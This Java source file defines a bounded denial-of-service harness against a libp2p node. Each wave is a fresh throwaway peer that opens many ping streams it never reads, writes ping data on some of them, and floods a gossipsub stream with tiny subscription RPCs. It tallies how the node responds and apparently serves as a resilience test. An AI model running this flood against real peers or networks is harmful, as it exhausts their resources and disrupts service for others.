package io.p2psync;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.p2psync.p2p.core.Multiaddr;
import io.p2psync.p2p.core.PeerId;
import io.p2psync.p2p.core.PrivateKey;
import io.p2psync.p2p.core.UnsignedVarint;
import io.p2psync.p2p.host.Connection;
import io.p2psync.p2p.host.Host;
import io.p2psync.p2p.host.P2pStream;
import io.p2psync.p2p.host.ProtocolHandler;
import io.p2psync.p2p.ping.PingProtocol;
import io.p2psync.p2p.pubsub.GossipsubProtocol;
import io.p2psync.p2p.pubsub.pb.RpcProto;
import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;

/**
 * Throwaway libp2p peers against one node, built from the project's own host: each wave is a fresh key that
 * connects, opens many {@code /ipfs/ping/1.0.0} streams and never reads them while it writes pings on some,
 * and floods a gossipsub stream with tiny RPCs; then it goes and the next key comes. Everything is bounded:
 * waves, streams per connection, bytes per stream, frames per wave, and how long a wave lasts.
 */
final class Libp2pAttack {

    /** The bounds of one wave. */
    record Wave(int streams, int writingStreams, long bytesPerStream, int gossipFrames, long holdMillis) {
    }

    private static final int CHUNK = PingProtocol.PAYLOAD_LENGTH * 256;
    private static final String TOPIC = "p2p-sync";

    private final Multiaddr node;

    Libp2pAttack(Multiaddr node) {
        this.node = node;
    }

    /** Runs at most {@code waves} waves, one after the other, until {@code stop} says so. */
    void run(Tally tally, int waves, Wave wave, BooleanSupplier stop) {
        for (int i = 0; i < waves && !stop.getAsBoolean(); i++) {
            tally.sent.incrementAndGet();
            try (Host host = Host.builder().privateKey(PrivateKey.generate()).ioThreads(1).start()) {
                Connection connection;
                try {
                    connection = host.dial(node).orTimeout(15, TimeUnit.SECONDS).join();
                } catch (RuntimeException e) {
                    tally.answer("dial refused or failed");
                    continue;
                }
                tally.answer("connected");
                attack(tally, host, connection.remotePeer(), wave, stop);
            } catch (RuntimeException e) {
                tally.failure("wave " + i + ": " + e);
            }
        }
    }

    private void attack(Tally tally, Host host, PeerId peer, Wave wave, BooleanSupplier stop) {
        List<Channel> pings = new ArrayList<>();
        for (int s = 0; s < wave.streams(); s++) {
            Channel c = open(tally, host, peer, PingProtocol.PROTOCOL_ID, "ping stream");
            if (c == null) {
                break; // refused or closed: the node caps streams or dropped this connection
            }
            pings.add(c);
        }
        Channel gossip = open(tally, host, peer, GossipsubProtocol.MESHSUB_V11, "gossip stream");
        long[] written = new long[pings.size()];
        int frames = 0;
        long pingBytes = 0;
        long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(wave.holdMillis());
        ChannelFuture last = null;
        while (System.nanoTime() < deadline && !stop.getAsBoolean()) {
            boolean wrote = false;
            for (int s = 0; s < Math.min(wave.writingStreams(), pings.size()); s++) {
                Channel c = pings.get(s);
                if (c.isActive() && c.isWritable() && written[s] < wave.bytesPerStream()) {
                    last = c.writeAndFlush(pings(CHUNK));
                    written[s] += CHUNK;
                    pingBytes += CHUNK;
                    wrote = true;
                }
            }
            for (int f = 0; f < 64 && gossip != null && gossip.isActive() && gossip.isWritable()
                    && frames < wave.gossipFrames(); f++) {
                last = gossip.writeAndFlush(tinyRpc(frames++));
                wrote = true;
            }
            if (!wrote) {
                if (last != null && !last.isDone()) {
                    last.awaitUninterruptibly(50); // back-pressure: wait for the last write to go out
                } else {
                    sleep(50); // pacing the attack until the wave's end, not waiting for a condition
                }
            }
        }
        long stillOpen = pings.stream().filter(Channel::isActive).count();
        tally.answer("ping bytes written", pingBytes);
        tally.answer("gossip frames written", frames);
        tally.answer("ping streams still open at the wave's end", stillOpen);
    }

    /** Opens a stream whose bytes this peer never reads; null if the node refused it or the connection is gone. */
    private static Channel open(Tally tally, Host host, PeerId peer, String protocol, String what) {
        ProtocolHandler unread = new ProtocolHandler() {
            @Override
            public List<String> protocolIds() {
                return List.of(protocol);
            }

            @Override
            public void initStream(P2pStream stream) {
                stream.channel().config().setAutoRead(false);
            }
        };
        try {
            P2pStream stream = host.newStream(peer, unread).orTimeout(10, TimeUnit.SECONDS).join();
            tally.answer(what + " opened");
            return stream.channel();
        } catch (RuntimeException e) {
            tally.answer(what + " refused or failed");
            return null;
        }
    }

    private static ByteBuf pings(int bytes) {
        return Unpooled.wrappedBuffer(new byte[bytes]);
    }

    /** A length-prefixed RPC of a few bytes: a subscription to the topic, on or off. */
    private static ByteBuf tinyRpc(int n) {
        byte[] rpc = RpcProto.RPC.newBuilder().addSubscriptions(RpcProto.RPC.SubOpts.newBuilder()
                .setSubscribe(n % 2 == 0).setTopicid(TOPIC)).build().toByteArray();
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        UnsignedVarint.write(rpc.length, frame);
        frame.writeBytes(rpc);
        return Unpooled.wrappedBuffer(frame.toByteArray());
    }

    private static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
